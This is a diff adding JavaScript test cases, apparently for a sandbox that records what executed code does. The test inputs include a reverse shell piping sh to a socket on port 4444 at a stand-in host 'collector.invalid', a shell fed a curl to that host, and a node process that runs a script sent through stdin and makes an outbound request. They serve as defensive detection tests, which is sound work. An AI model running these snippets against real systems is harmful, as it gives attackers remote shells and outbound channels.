@@ -176,3 +176,47 @@ describe("a ghost", () => {
     ]);
   });
 });
+
+describe("programs that wait for what they read", () => {
+  test("a shell does what is written to it, and answers", async () => {
+    const { printed, observations } = await run(
+      `const shell = require("child_process").spawn("/bin/sh", ["-i"]);
+       shell.stdout.on("data", (text) => console.log(String(text).trim()));
+       shell.on("exit", (code) => console.log("over", code));
+       shell.stdin.write("curl -s https://collector.invalid/a\\necho done\\n");
+       shell.stdin.end();`,
+    );
+
+    expect(printed.at(-2)?.endsWith("done")).toBe(true);
+    expect(printed.at(-1)).toBe("over 0");
+    expect(observations.map(({ data }) => data["url"])).toContain("https://collector.invalid/a");
+  });
+
+  test("a shell at a connection takes its orders from there, and a packer does not", async () => {
+    const wired = await run(
+      `const shell = require("child_process").spawn("sh");
+       const socket = require("net").connect(4444, "collector.invalid");
+       socket.pipe(shell.stdin);
+       shell.stdout.pipe(socket);`,
+    );
+    const packed = await run(
+      `const tar = require("child_process").spawn("tar", ["-xz"]);
+       require("https").get("https://files.example/a.tgz", (answer) => answer.pipe(tar.stdin));
+       tar.on("exit", (code) => console.log("over", code));`,
+    );
+
+    expect(wired.observations.map(({ api }) => api)).toEqual(
+      expect.arrayContaining(["child_process.stdin", "id", "net.write"]),
+    );
+    expect(packed.printed).toEqual(["over 0"]);
+  });
+
+  test("a program that reads its script from its input runs it", async () => {
+    const { observations } = await run(
+      `const node = require("child_process").spawn(process.execPath, ["-"]);
+       node.stdin.end("require('https').get('https://collector.invalid/b')");`,
+    );
+
+    expect(observations.map(({ data }) => data["url"])).toContain("https://collector.invalid/b");
+  });
+});
